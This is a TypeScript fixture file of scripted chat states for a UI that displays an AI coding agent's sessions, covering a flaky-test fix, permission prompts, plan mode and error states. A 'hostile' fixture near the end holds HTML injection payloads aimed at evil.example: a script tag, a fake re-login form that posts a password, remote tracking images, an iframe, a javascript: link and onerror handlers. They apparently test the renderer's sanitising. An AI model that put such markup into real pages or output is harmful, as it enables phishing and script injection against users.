// The chats of the gallery: each a story in a state that a person may meet.
import type { ServerFrame } from '../wire/wire';
import { session, Story } from './story';

const ROOT = '/home/you/factory-jupyter/worktrees/photonlab/fix-flaky-spectrum';
export const WORKTREE = ROOT;

const PATCH = {
  structured_patch: [
    {
      oldStart: 40,
      oldLines: 4,
      newStart: 40,
      newLines: 5,
      lines: [
        ' ',
        ' def find_peaks(signal, min_height):',
        '-    found = sorted(candidates, key=lambda p: p.height)',
        '+    # Ties keep their position: the order must not depend on hashing.',
        '+    found = sorted(candidates, key=lambda p: (p.height, p.position))',
        '     return found'
      ]
    },
    {
      oldStart: 88,
      oldLines: 2,
      newStart: 89,
      newLines: 2,
      lines: ['-    rng = np.random.default_rng()', '+    rng = np.random.default_rng(seed)']
    }
  ]
};

const PYTEST = `\x1b[1m============================= test session starts ==============================\x1b[0m
platform linux -- Python 3.11.9, pytest-8.3.4
collected 32 items

tests/test_spectrum.py \x1b[32m.\x1b[0m\x1b[32m.\x1b[0m\x1b[32m.\x1b[0m\x1b[31mF\x1b[0m\x1b[32m............................\x1b[0m                        [100%]

=================================== FAILURES ===================================
\x1b[31m\x1b[1m_____________________________ test_spectrum_peaks ______________________________\x1b[0m

    def test_spectrum_peaks():
>       assert [p.position for p in find_peaks(noise(), 3.0)] == [4, 11, 19]
\x1b[31mE       assert [11, 4, 19] == [4, 11, 19]\x1b[0m

tests/test_spectrum.py:17: AssertionError
\x1b[31m=========================== 1 failed, 31 passed in 1.84s ===========================\x1b[0m`;

const ANSWER = `The test compares peaks found in noise drawn *without a seed*, and \`find_peaks\` keeps ties in dictionary order. Two changes remove the cause:

1. a seeded generator in the fixture, so that every run sees the same noise;
2. sorting by height **and position** in \`fitting.py\`.

| run | before | after |
|---|---|---|
| 40 × \`pytest\` | 4 failed | 0 failed |
| time | 73 s | 74 s |

\`\`\`python
found = sorted(candidates, key=lambda p: (p.height, p.position))
\`\`\`

See [the numpy guide](https://numpy.org/doc/stable/reference/random/) on seeding.`;

function investigate(story: Story): Story {
  return story
    .say('test_spectrum_peaks fails about one run in ten on CI. Find out why and fix the cause, not the symptom.')
    .thinking(
      'A test that fails one run in ten: order, time or randomness. The fixture draws noise, so first look for a seed.\nThen look at how ties are ordered.'
    )
    .tool('Grep', { pattern: 'peaks', path: `${ROOT}/photonlab` }, 'photonlab/fitting.py:41\nphotonlab/io.py:9')
    .tool('Read', { file_path: `${ROOT}/photonlab/fitting.py` }, '1\timport numpy as np')
    .tool('Read', { file_path: `${ROOT}/tests/test_spectrum.py` }, '1\timport pytest')
    .tool('Bash', { command: 'pytest -q tests/test_spectrum.py', description: 'Run the flaky test' }, PYTEST, {
      is_error: true
    });
}

export const finished = investigate(new Story({ context_tokens: 68_000 }))
  .tool(
    'TodoWrite',
    {
      todos: [
        { content: 'Reproduce the failure', status: 'completed', activeForm: 'Reproducing the failure' },
        { content: 'Order ties by position', status: 'in_progress', activeForm: 'Ordering ties by position' },
        { content: 'Run the test forty times', status: 'pending', activeForm: 'Running the test forty times' }
      ]
    },
    'ok'
  )
  .tool(
    'Edit',
    { file_path: `${ROOT}/photonlab/fitting.py`, old_string: 'a', new_string: 'b' },
    'The file has been updated',
    { details: PATCH }
  )
  .text(ANSWER)
  .finish().frames;

export const permission = new Story({ phase: 'waiting', open_questions: 2 })
  .say('test_spectrum_peaks fails about one run in ten on CI. Find out why and fix the cause, not the symptom.')
  .text('Ties are ordered by hash. I will make the order explicit and then run the test forty times.')
  .tool('Edit', { file_path: `${ROOT}/photonlab/fitting.py`, old_string: 'a', new_string: 'b' }, 'ok', {
    details: PATCH
  })
  .tool('Bash', { command: 'for i in $(seq 40); do pytest -q tests/test_spectrum.py || exit 1; done' })
  .ask({
    kind: 'permission',
    tool_name: 'Bash',
    tool_use_id: 't2',
    input: {
      command: 'for i in $(seq 40); do\n  pytest -q tests/test_spectrum.py || exit 1\ndone',
      description: 'Run the test forty times'
    }
  })
  .ask({ kind: 'permission', tool_name: 'WebFetch', input: { url: 'https://numpy.org' } })
  .queue('mq1', 'then update CHANGELOG')
  .queue('mq2', 'and open the pull request as a draft').frames;

export const permissionEdit = new Story({ phase: 'waiting', permission_mode: 'default' })
  .say('Sort ties by position.')
  .tool('Edit', { file_path: `${ROOT}/photonlab/fitting.py`, old_string: 'x', new_string: 'y' })
  .ask({
    kind: 'permission',
    tool_name: 'Edit',
    tool_use_id: 't1',
    input: {
      file_path: `${ROOT}/photonlab/fitting.py`,
      old_string:
        'def find_peaks(signal, min_height):\n    found = sorted(candidates, key=lambda p: p.height)\n    return found',
      new_string:
        'def find_peaks(signal, min_height):\n    # Ties keep their position.\n    found = sorted(candidates, key=lambda p: (p.height, p.position))\n    return found'
    }
  }).frames;

export const permissionUnknown = new Story({ phase: 'waiting' })
  .say('Take the lock.')
  .ask({
    kind: 'permission',
    tool_name: 'mcp__factory__lock_acquire',
    input: { path: 'photonlab/fitting.py', ttl_s: 600, label: 'fix ties' }
  }).frames;

const PLAN = `## Goal
Fit all spectra at once instead of one after the other.

1. Stack the spectra into one \`(n, m)\` array in \`photonlab/io.py\`.
2. Replace the loop in \`fit_all\` by one call of \`scipy.optimize.least_squares\` with a block-diagonal Jacobian.
3. Keep \`fit_one\` as a thin wrapper, so that notebooks go on working.

**Not touched:** the file format, the public names.

\`\`\`python
fits = fit_all(stack(spectra), model=voigt)
\`\`\``;

export const plan = new Story({ phase: 'waiting', permission_mode: 'plan', workflow: 'feature' })
  .say('Plan how the fitting can be vectorised.')
  .tool('Read', { file_path: `${ROOT}/photonlab/fitting.py` }, 'text')
  .tool('ExitPlanMode', {})
  .ask({ kind: 'plan', tool_name: 'ExitPlanMode', tool_use_id: 't2', input: {}, plan: PLAN }).frames;

const QUESTIONS = {
  questions: [
    {
      question: 'In which format should the cached spectra be written?',
      header: 'Format',
      multiSelect: false,
      options: [
        { label: 'HDF5', description: 'What the rest of the package reads; needs h5py' },
        { label: 'Parquet', description: 'Columns, good with polars and pandas' },
        { label: 'NumPy .npz', description: 'No dependency, no metadata' }
      ]
    },
    {
      question: 'Which notebooks should use the cache?',
      header: 'Notebooks',
      multiSelect: true,
      options: [{ label: 'peaks.ipynb' }, { label: 'calibration.ipynb', description: 'slow today' }]
    }
  ]
};

export const askUser = new Story({ phase: 'waiting', permission_mode: 'acceptEdits' })
  .say('Cache the spectra.')
  .tool('AskUserQuestion', QUESTIONS)
  .ask({ kind: 'ask_user', tool_name: 'AskUserQuestion', tool_use_id: 't1', input: QUESTIONS }).frames;

export const answered = new Story()
  .say('Cache the spectra, and plan first.', [
    { id: 'a1', name: 'spectrum.png', media_type: 'image/png', size: 48_200 },
    { id: 'a2', name: 'notes.md', media_type: 'text/plain', size: 1800 }
  ])
  .tool('AskUserQuestion', QUESTIONS)
  .ask({ kind: 'ask_user', tool_name: 'AskUserQuestion', tool_use_id: 't1', input: QUESTIONS })
  .answer({
    behavior: 'allow',
    answers: {
      'In which format should the cached spectra be written?': 'HDF5',
      'Which notebooks should use the cache?': ['peaks.ipynb', 'calibration.ipynb']
    }
  })
  .result('t1', 'answered')
  .tool('ExitPlanMode', {})
  .ask({ kind: 'plan', tool_name: 'ExitPlanMode', tool_use_id: 't2', input: {}, plan: PLAN })
  .answer({ behavior: 'allow', permission_mode: 'acceptEdits' })
  .result('t2', 'approved')
  .event({ type: 'mode_changed', permission_mode: 'acceptEdits' })
  .tool('Bash', { command: 'rm -rf cache' })
  .ask({ kind: 'permission', tool_name: 'Bash', tool_use_id: 't3', input: { command: 'rm -rf cache' } })
  .answer({ behavior: 'deny', message: 'Do not delete anything; write beside it.' })
  .result('t3', 'Do not delete anything; write beside it.', true)
  .text('Understood: the cache goes to `cache-v2/`.')
  .finish().frames;

export const tools = new Story()
  .say('Show every tool.')
  .tool(
    'Bash',
    { command: 'ls -la\ngit status --short', description: 'Look around' },
    ' M photonlab/fitting.py\n?? photonlab/_noise.py'
  )
  .text('A file that is written new:')
  .tool(
    'Write',
    {
      file_path: `${ROOT}/photonlab/_noise.py`,
      content:
        'import numpy as np\n\n\ndef noise(seed: int, n: int) -> np.ndarray:\n    """White noise, the same for the same seed."""\n    return np.random.default_rng(seed).normal(size=n)\n'
    },
    'written'
  )
  .tool(
    'MultiEdit',
    {
      file_path: `${ROOT}/tests/test_spectrum.py`,
      edits: [
        { old_string: 'noise()', new_string: 'noise(seed=7)' },
        { old_string: 'import pytest', new_string: 'import pytest\nfrom photonlab._noise import noise' }
      ]
    },
    'ok'
  )
  .tool(
    'NotebookEdit',
    {
      notebook_path: `${ROOT}/notebooks/peaks.ipynb`,
      cell_id: 'c4f1',
      cell_type: 'code',
      edit_mode: 'replace',
      new_source: 'peaks = find_peaks(spectrum, min_height=3.0)\npd.DataFrame(peaks).plot.scatter("position", "height")'
    },
    'ok'
  )
  .tool('Glob', { pattern: '**/*.ipynb' }, 'notebooks/peaks.ipynb\nnotebooks/calibration.ipynb')
  .tool('LS', { path: ROOT }, '- photonlab/\n- tests/')
  .tool(
    'WebFetch',
    { url: 'https://numpy.org/doc/stable/reference/random/', prompt: 'How is a generator seeded?' },
    'Use `numpy.random.default_rng(seed)`.'
  )
  .tool('mcp__factory__lock_acquire', { path: 'photonlab/fitting.py', ttl_s: 600 }, '{"acquired": true}')
  .tool('SomethingNew', { alpha: 1, nested: { beta: [1, 2, 3] } }, 'A tool that this page does not know')
  .text('And one that fails, one that is cut, and one that still runs:')
  .tool(
    'Edit',
    { file_path: `${ROOT}/photonlab/io.py`, old_string: 'missing', new_string: 'x' },
    'String to replace not found in file.',
    { is_error: true }
  )
  .text('')
  .tool(
    'Bash',
    { command: 'cat data/large.csv' },
    Array.from({ length: 60 }, (_, line) => `${line},${line * line},${(line / 7).toFixed(4)}`).join('\n'),
    { truncated: true }
  )
  .thinking('Long runs need patience.')
  .frame({ type: 'phase', phase: 'running' }).frames;

const agent = new Story({ phase: 'running' }).say('Look for other unseeded generators.');
const task = agent.nextTool;
export const subAgent = agent
  .tool('Task', {
    description: 'Find unseeded generators',
    subagent_type: 'explore',
    prompt: 'Search the package for random generators without a seed. Report file and line.'
  })
  .tool('Grep', { pattern: 'default_rng\\(\\)' }, 'photonlab/io.py:12', {}, task)
  .tool('Read', { file_path: `${ROOT}/photonlab/io.py` }, '1\timport numpy as np', {}, task)
  .text('One place is left: `photonlab/io.py:12`.', task)
  .result(task, 'One unseeded generator: `photonlab/io.py`, line 12.')
  .tool('Task', { description: 'Check the notebooks', subagent_type: 'explore', prompt: 'The same for notebooks.' })
  .tool('Bash', { command: 'grep -rn default_rng notebooks' }, undefined, {}, 't4').frames;

export const streaming: ServerFrame[] = [
  ...investigate(new Story({ phase: 'running' })).frames,
  {
    type: 'delta',
    kind: 'thinking',
    index: 0,
    text: 'Two causes are possible. Let me first check how ties are ordered',
    reset: true,
    parent_tool_use_id: null
  },
  {
    type: 'delta',
    kind: 'text',
    index: 1,
    text: 'The test compares peaks found in noise drawn *without a seed*, and `find_peaks` keeps ties in',
    reset: true,
    parent_tool_use_id: null
  }
];

const failing = (error_code: string, reason: string, result: string): ServerFrame[] =>
  new Story()
    .say('Go on.')
    .finish({ is_error: true, reason, error_code, result, cost_usd: 0, usage: null, duration_ms: 1200 }).frames;

export const errors: [string, ServerFrame[]][] = [
  ['not_logged_in', failing('not_logged_in', 'api_error', 'Not logged in · Please run /login')],
  ['authentication_failed', failing('authentication_failed', 'api_error', 'API Error: 401 invalid x-api-key')],
  [
    'rate_limited',
    failing('rate_limited', 'api_error', 'API Error: 429 This request would exceed your account’s rate limit')
  ],
  ['overloaded', failing('overloaded', 'api_error', 'API Error: 529 Overloaded')],
  ['connection', failing('connection', 'api_error', 'API Error: Connection error.')],
  ['server_error', failing('server_error', 'api_error', 'API Error: 500 Internal server error')]
];

export const endings: ServerFrame[] = new Story({ phase: 'stopped' })
  .event({ type: 'notice', level: 'info', text: 'Imported from the command line: 14 messages', code: 'imported' })
  .say('Run the long benchmark.')
  .tool('Bash', { command: 'python bench.py --long' })
  .finish({ is_error: true, reason: 'server_stopped', usage: null, cost_usd: 0, duration_ms: 0 })
  .event({ type: 'session_stopped', reason: 'server_stopped' })
  .say('Go on where you were.')
  .event({ type: 'notice', level: 'info', text: 'The conversation was resumed', code: 'resumed' })
  .tool('Bash', { command: 'python bench.py --long' })
  .finish({ is_error: true, reason: 'agent_died', usage: null, cost_usd: 0, duration_ms: 0 })
  .say('Again, please.')
  .text('Starting with the short one')
  .finish({ reason: 'interrupted', cost_usd: 0.01, duration_ms: 4100 })
  .event({ type: 'model_changed', model: 'sonnet' })
  .event({ type: 'notice', level: 'warning', text: 'The budget of this session is nearly used up', code: null })
  .event({ type: 'session_stopped', reason: 'stopped_by_user' }).frames;

export const retrying: ServerFrame[] = [
  ...new Story({ phase: 'running' }).say('Go on.').frames,
  { type: 'api_retry', attempt: 3, delay_ms: 35_000, status: 429, max_attempts: 10, reason: 'rate_limit' }
];

export const empty: ServerFrame[] = new Story({
  workflow: 'explore',
  usage: { ...session().usage, cost_usd: 0 },
  context_tokens: null
}).frames;

export const hostile: ServerFrame[] = new Story()
  .say('What did you find?')
  .text(
    'A page said: <img src="https://evil.example/pixel.png" alt="a remote picture"> <script>document.title = "owned"</script> <style>body { display: none }</style> <form action="https://evil.example"><input name="password"><button>Log in again</button></form> <iframe src="https://evil.example"></iframe> [a link](javascript:alert(1)) and [a good one](https://example.org) <b onclick="alert(1)">bold</b> ![remote](https://evil.example/2.png)'
  )
  .tool('Bash', { command: 'printf "<b>not html</b>"' }, '<b>not html</b> <img src=x onerror=alert(1)>')
  .finish().frames;

/** 10,000 blocks in many turns. */
export function huge(): ServerFrame[] {
  const story = new Story({}, 40);
  for (let turn = 0; turn < 500; turn++) {
    story.say(`Step ${turn}: look at the next module and say what it does.`);
    for (let block = 0; block < 3; block++) {
      story
        .text(
          `Module ${turn}.${block} reads a file, *checks* it and hands it on. ${'It is long enough to need two or three lines on a narrow page. '.repeat((turn + block) % 4)}`
        )
        .tool('Read', { file_path: `${ROOT}/photonlab/module_${turn}_${block}.py` }, 'text')
        .tool('Grep', { pattern: `name_${turn}` }, 'found')
        .tool('Bash', { command: `pytest -q -k module_${turn}` }, '12 passed in 0.41s')
        .tool(
          'Edit',
          {
            file_path: `${ROOT}/photonlab/module_${turn}.py`,
            old_string: `a = ${turn}`,
            new_string: `a = ${turn + 1}`
          },
          'ok'
        );
    }
    story
      .text('- one\n- two\n- three')
      .thinking('Next.')
      .text(`\`\`\`python\nprint(${turn})\n\`\`\``)
      .text('Done with this one.')
      .finish({ duration_ms: 3000 });
  }
  return story.frames;
}

export const modes: ServerFrame[] = new Story({
  permission_mode: 'bypassPermissions',
  context_tokens: 178_000,
  queue_paused: true
})
  .say('Go.')
  .text('Going.')
  .finish({ reason: 'interrupted' })
  .queue('mq1', 'then run the long benchmark').frames;
